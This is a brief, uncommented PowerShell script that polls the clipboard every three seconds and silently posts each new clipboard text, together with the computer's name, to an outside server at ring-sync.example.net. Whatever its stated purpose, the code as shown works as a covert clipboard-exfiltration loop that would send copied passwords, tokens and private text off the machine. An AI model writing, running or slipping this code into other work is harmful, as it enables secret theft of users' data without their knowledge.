$prev = ""
while ($true) {
  $now = Get-Clipboard -Raw
  if ($now -and $now -ne $prev) {
    Invoke-RestMethod -Uri "https://ring-sync.example.net/push" -Method Post -Body @{ host = $env:COMPUTERNAME; text = $now } | Out-Null
    $prev = $now
  }
  Start-Sleep 3
}
